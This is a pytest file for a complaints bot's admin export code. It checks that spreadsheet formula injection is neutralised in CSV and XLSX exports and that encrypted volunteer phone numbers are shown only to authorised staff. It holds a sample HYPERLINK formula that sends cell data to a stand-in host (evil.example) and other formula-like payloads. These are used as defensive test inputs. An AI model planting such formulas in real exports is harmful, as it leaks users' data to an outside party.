"""Exports hold what people typed, as text: no cell can run as a formula in a spreadsheet.
And the volunteers' phones, kept encrypted, reach the staff who may see them in the clear."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from bot.core.db import get_session
from bot.core.exports import append_xlsx_row, csv_cell
from bot.core.users import LineUser
from bot.volunteers.models import Role, Volunteer
from tests.admin.conftest import add_complaint, encrypted_phone

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
RISKY = [ATTACK, "+66812345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", RISKY)
def test_a_cell_that_could_start_a_formula_is_neutralised(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["นายจ้างค้างค่าแรง", "", "1+1=2", "a=b", 7, None])
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert csv_cell(value) == value


def test_xlsx_rows_keep_formula_like_text_as_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    append_xlsx_row(sheet, [*RISKY, 42, "ปกติ"])
    buffer = io.BytesIO()
    workbook.save(buffer)

    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    # XML reads a lone CR back as a newline; the text is otherwise exactly what was written.
    assert [c.value for c in cells] == [*(v.replace("\r", "\n") for v in RISKY), 42, "ปกติ"]
    assert [c.data_type for c in cells] == ["s"] * len(RISKY) + ["n", "s"]
    sheet_xml = zipfile.ZipFile(buffer).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_a_story_typed_as_a_formula_is_exported_as_text(app, clients) -> None:
    reference = add_complaint(app, details=ATTACK)

    csv_export = clients["admin"].get("/admin/complaints/export").get_data().decode("utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(csv_export)))[1:]
    assert row[0] == reference and "'" + ATTACK in row

    xlsx = clients["admin"].get("/admin/complaints/export?format=xlsx").get_data()
    cells = list(load_workbook(io.BytesIO(xlsx)).active.iter_rows(min_row=2))[0]
    (details,) = [c for c in cells if c.value == ATTACK]
    assert details.data_type == "s"
    sheet_xml = zipfile.ZipFile(io.BytesIO(xlsx)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_the_volunteer_directory_decrypts_phones_and_neutralises_names(app, clients) -> None:
    user_id = "U" + "d" * 32
    with app.app_context():
        session = get_session()
        session.add(LineUser(id=user_id, display_name="@cmd"))
        session.flush()
        session.add(
            Volunteer(
                user_id=user_id,
                role=Role.VOLUNTEER,
                province_code="94",
                district_code="9401",
                full_name="=1+2",
                phone_encrypted=encrypted_phone("0812345678"),
                consent_at=datetime.now(UTC),
                registered_at=datetime.now(UTC),
            )
        )
        session.commit()
        stored = session.scalar(select(Volunteer.phone_encrypted))
    assert stored and "0812345678" not in stored

    assert "0812345678" in clients["pattani"].get("/admin/volunteers/").get_data(as_text=True)
    exported = clients["pattani"].get("/admin/volunteers/export").get_data().decode("utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(exported)))[1:]
    assert row[0] == "'=1+2" and row[4] == "0812345678" and row[5] == "'@cmd"
